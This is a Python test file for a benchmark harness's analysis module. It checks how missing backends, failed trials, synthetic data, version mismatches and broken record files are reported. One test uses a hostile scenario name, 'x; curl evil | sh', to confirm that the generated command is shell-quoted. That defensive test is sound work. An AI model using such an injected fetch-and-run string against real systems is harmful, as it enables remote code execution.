"""What a set of records says, and which weaknesses are named with it."""

from __future__ import annotations

import cProfile

import msgspec

from harness.analysis.study import study_of
from harness.backends import BACKENDS
from harness.records.trial import Failure, Hashes, Provenance
from harness.store.reading import Broken

BROKEN = [
    Broken(path="records/a.json", reason="cut off"),
    Broken(path="records/b.json", reason="empty"),
]


def at(minute):
    return f"2026-01-01T{minute // 60:02d}:{minute % 60:02d}:00+00:00"


def codes(study):
    return {note.code for note in study.notes}


def note(study, code):
    (found,) = [note for note in study.notes if note.code == code]
    return found


def test_a_clean_interleaved_campaign_has_no_weakness(interleaved, about):
    study = study_of(interleaved, about=about)
    assert study.notes == []
    assert [row.good for row in study.rows] == [3, 3, 3]


def test_no_records_is_three_missing_backends_and_the_commands_that_make_them():
    study = study_of([])
    assert [lack.command for lack in study.missing] == ["tox -e jax", "tox -e tf", "tox -e torch"]
    assert study.rows == []
    assert codes(study) == {"missing-backend"}


class TestMissingBackends:
    def test_are_named_beside_others_of_the_same_device(self, make_record):
        study = study_of([make_record(backend="jax", device="gpu")])
        assert [lack.command for lack in study.missing] == ["tox -e tf-gpu", "tox -e torch-gpu"]

    def test_a_backend_that_only_failed_is_not_missing(self, make_record):
        study = study_of([make_record(backend="torch", status="crashed")])
        assert [lack.backend for lack in study.missing] == ["jax", "tensorflow"]

    def test_of_another_scenario_are_made_by_running_that(self, make_record):
        study = study_of([make_record(scenario="retrieval", backend="jax")])
        assert study.missing[0].command == "harness run retrieval --backend tf"

    def test_a_hostile_scenario_name_makes_no_hostile_command(self, make_record):
        study = study_of([make_record(scenario="x; curl evil | sh")])
        assert study.missing[0].command == "harness run 'x; curl evil | sh' --backend tf"


class TestFailedTrials:
    def test_how_many_and_which(self, interleaved):
        records = list(interleaved)
        records[2] = msgspec.structs.replace(
            records[2], status="timeout", failure=Failure(reason="ran past 600 s\nmore lines")
        )
        study = study_of(records)
        text = note(study, "failed-trials").text
        assert text.startswith("1 of 9 trials left no measurement and is in no figure: ")
        assert "torch cpu fit, seed 1 (timeout: ran past 600 s)" in text
        assert study.failed == 1

    def test_of_many_the_first_few_are_named_and_the_rest_counted(self, make_record):
        records = [
            make_record(status="killed", seed=i, failure=Failure(reason=f"for reason {i}"))
            for i in range(20)
        ]
        text = note(study_of(records), "failed-trials").text
        assert text.count("seed") == 5
        assert text.endswith("and 15 more.")


class TestOtherWeaknesses:
    def test_synthetic_data(self, make_record):
        records = [make_record(), make_record(seed=2, synthetic=True)]
        study = study_of(records)
        assert study.notes[0].code == "synthetic-data"
        assert "SYNTHETIC DATA in 1 of 2 trials" in study.notes[0].text

    def test_different_tables(self, make_record):
        other = Hashes(table="e" * 64, split="", initial_weights="", final_weights="")
        study = study_of([make_record(), make_record(hashes=other)])
        assert "2 different tables" in note(study, "several-tables").text
        assert [data.trials for data in study.data_sets] == [1, 1]

    def test_different_versions_of_the_scenario(self, make_record):
        study = study_of([make_record(), make_record(scenario_version=2)])
        assert "versions 1 and 2" in note(study, "several-scenario-versions").text

    def test_different_package_versions(self, make_record, environment):
        records = [
            make_record(environment=environment(keras=keras)) for keras in ("3.14.0", "3.15.1")
        ]
        assert "keras 3.14.0 and 3.15.1" in note(study_of(records), "several-versions").text

    def test_versions_in_environments_with_names_are_what_was_asked(self, make_record, environment):
        def records(names):
            return [
                make_record(name=name, environment=environment(keras=keras))
                for name, keras in zip(names, ("3.14.0", "3.15.1"), strict=True)
            ]

        study = study_of(records(("old", "new")))
        assert study.missing == []
        assert not [one for one in study.notes if one.code == "several-versions"]
        study = study_of(records(("old", "old")))
        assert {lack.backend for lack in study.missing} == {"tensorflow", "torch"}
        assert "keras 3.14.0 and 3.15.1" in note(study, "several-versions").text

    def test_one_trial_only(self, make_record):
        study = study_of([make_record(), make_record(backend="torch"), make_record(seed=2)])
        text = note(study, "one-trial").text
        assert "One trial only for torch cpu:" in text

    def test_a_changed_checkout(self, make_record):
        records = [make_record(harness=Provenance(version="0.1.0", commit="a" * 40, dirty=True))]
        assert "uncommitted changes" in note(study_of(records), "dirty-harness").text

    def test_several_harnesses(self, make_record):
        records = [
            make_record(seed=i, harness=Provenance(version="0.1.0", commit=c * 40, dirty=False))
            for i, c in enumerate("ab")
        ]
        assert "2 commits" in note(study_of(records), "several-harnesses").text

    def test_broken_files_with_path_and_reason(self):
        study = study_of([], broken=BROKEN)
        text = note(study, "broken-records").text
        assert text.startswith("2 record files could not be read and are in no figure: ")
        assert "records/a.json (cut off); records/b.json (empty)" in text


def test_no_note_ever_calls_a_backend_faster(make_record, environment, about):
    records = [
        make_record(
            backend=b,
            step_time_s=s,
            value=0.2 + s,
            status=status,
            environment=environment(f"machine-{b}", load_average=9.0, keras=f"3.{i}", **{b: "1.0"}),
            synthetic=i == 1,
        )
        for i, (b, s, status) in enumerate(
            [("jax", 0.001, "ok"), ("jax", 0.002, "crashed"), ("torch", 0.005, "ok")]
        )
    ]
    for found in study_of(records, broken=BROKEN, about=about).notes:
        assert not {"faster", "fastest", "slower"} & set(found.text.split())


def test_the_order_of_the_records_does_not_matter(interleaved, about):
    records = list(interleaved)
    expected = content(study_of(records, about=about))
    assert content(study_of(records[::-1], about=about)) == expected
    assert content(study_of(records[5:] + records[:5], about=about)) == expected


def content(study):
    return study.rows, study.missing, study.notes, study.answers, study.ladders


def test_the_work_grows_with_the_records_and_not_with_their_square(make_record, environment, about):
    def calls(seeds):
        records = [
            make_record(
                backend=backend,
                settings={"batch_size": size},
                seed=seed,
                round=seed,
                started_at=at(seed * 60 + size),
                environment=environment(**{backend: "1.0"}),
            )
            for seed in range(seeds)
            for size in range(28)
            for backend in BACKENDS
        ]
        profile = cProfile.Profile()
        study = study_of(records, about=about)
        profile.runcall(lambda: (study.rows, study.missing, study.notes))
        assert len(study.rows) == 84
        assert sum(row.good for row in study.rows) == len(records) == 84 * seeds
        return sum(entry.callcount for entry in profile.getstats())

    # Calls are counted, since a clock would fail on a busy machine; 1,008 records take 0.05 s.
    assert calls(seeds=12) < 5 * calls(seeds=3)
